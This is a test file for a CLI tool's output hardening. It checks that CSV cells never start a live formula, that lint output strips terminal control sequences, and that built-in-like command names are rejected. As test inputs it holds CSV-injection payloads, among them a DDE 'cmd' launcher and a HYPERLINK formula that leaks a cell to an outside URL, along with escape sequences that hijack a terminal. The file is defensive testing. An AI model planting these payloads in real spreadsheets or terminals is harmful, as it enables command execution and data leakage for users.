// Hostile text in what the tools print and write: CSV cells never start a formula, the
// terminal never receives a study's control characters, a command named like a built-in is
// unknown.

import { strict as assert } from 'assert';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { runCli } from '../../server/cli/main';
import { csvCell } from '../../server/generate/csv';
import { renderAll } from '../../server/generate';
import { SAMPLES, studyFromText } from '../generate/fixtures';

/** RFC 4180 cells of a CSV text (quoted fields unquoted). */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

const FORMULAS = ['=HYPERLINK("http://example.com/?"&A1,"Click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];

/** A sample with every string's text turned into one of the formulas above. */
function formulaStudy(sampleText: string): string {
  let n = 0;
  return sampleText.replace(/"""[\s\S]*?"""|"((?:[^"\\\n]|\\.)*)"/g, (whole, inner: string | undefined) => {
    if (inner === undefined || inner.startsWith('./') || inner.endsWith('.json')) return whole;
    const formula = FORMULAS[n++ % FORMULAS.length].replace(/\\/g, '\\\\').replace(/"/g, '\\"').replace(/\t/g, '\\t').replace(/\r/g, '');
    return `"${formula}${inner}"`;
  });
}

async function cli(cwd: string, ...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const code = await runCli(args, { cwd, stdout: (t) => (stdout += t), stderr: (t) => (stderr += t) });
  return { code, stdout, stderr };
}

describe('hostile: CSV cells', function () {
  this.timeout(60000);

  it('a cell that would start a formula gets a leading apostrophe; a negative number stays a number', () => {
    assert.equal(csvCell('=HYPERLINK("http://x"&A1,"Click")'), `"'=HYPERLINK(""http://x""&A1,""Click"")"`);
    assert.equal(csvCell("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
    for (const start of ['=', '+', '-', '@', '\t', '\r']) assert.ok(csvCell(`${start}x`).replace(/^"/, '').startsWith("'"), JSON.stringify(start));
    assert.equal(csvCell('-3'), '-3');
    assert.equal(csvCell('-2.5'), '-2.5');
    assert.equal(csvCell('-2+3'), "'-2+3");
    assert.equal(csvCell('Reach'), 'Reach');
  });

  it('every CSV file generated from a study whose labels and reasons are formulas has no live formula', async () => {
    const touchpointLabel = '=HYPERLINK("http://example.com/?"&A1,"Click")';
    const exclusionReason = "=cmd|' /C calc'!A0";
    let csvFiles = 0;
    for (const name of fs.readdirSync(SAMPLES).filter((n) => n.endsWith('.study'))) {
      const original = fs.readFileSync(path.join(SAMPLES, name), 'utf8');
      if (!/^\s*study\s/m.test(original)) continue;
      const { model, findings } = studyFromText(formulaStudy(original));
      const files = (await renderAll(model, findings)).filter((f) => f.format === 'csv');
      assert.ok(files.length >= 1, name);
      for (const file of files) {
        csvFiles++;
        const cells = parseCsv(String(file.content)).flat();
        // the checklist's cells are the project's own wording and section titles, never the study's text
        if (!file.name.startsWith('checklist'))
          assert.ok(
            cells.some((c) => c.startsWith("'")),
            `${name} ${file.name}: the formulas did not reach the CSV`,
          );
        for (const cell of cells) assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^-?\d+(\.\d+)?$/.test(cell), `${name} ${file.name}: live cell ${JSON.stringify(cell)}`);
      }
    }
    assert.ok(csvFiles >= 4, `${csvFiles} CSV files`);
    const { model, findings } = studyFromText(`study s "S" {
  frameworks: reaim
  service x "X" {
    touchpoint t "${touchpointLabel.replace(/"/g, '\\"')}" { channel: digital }
  }
  exclude reaim.reach "${exclusionReason}"
}
`);
    const csv = (await renderAll(model, findings)).find((f) => f.name === 'matrix.csv');
    const cells = parseCsv(String(csv?.content)).flat();
    assert.ok(cells.includes(`'${touchpointLabel}`), JSON.stringify(cells));
    assert.ok(cells.includes(`'${exclusionReason}`), JSON.stringify(cells));
  });
});

describe('hostile: terminal output', () => {
  let dir: string;
  before(() => (dir = fs.mkdtempSync(path.join(os.tmpdir(), 'studyspec-hostile-'))));
  after(() => fs.rmSync(dir, { recursive: true, force: true }));

  it('lint strips control characters (an OSC title change, a screen clear, a bell) from stylish output', async () => {
    fs.writeFileSync(path.join(dir, 'esc.study'), 'study s "x" {\n  design: "\u001b]0;pwned\u0007\u001b[2J\u009b2J"\n  \u001b[2J\n}\n');
    const run = await cli(dir, 'lint', 'esc.study');
    assert.equal(run.code, 1);
    assert.match(run.stdout, /invalid-value/);
    assert.match(run.stdout, /pwned/);
    assert.doesNotMatch(run.stdout, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/, JSON.stringify(run.stdout));
  });

  it('a command named like an Object.prototype member is an unknown command', async () => {
    for (const name of ['constructor', 'toString', '__proto__', 'hasOwnProperty']) {
      const run = await cli(dir, name);
      assert.equal(run.code, 2, name);
      assert.match(run.stderr, new RegExp(`unknown command '${name}'`));
    }
  });
});
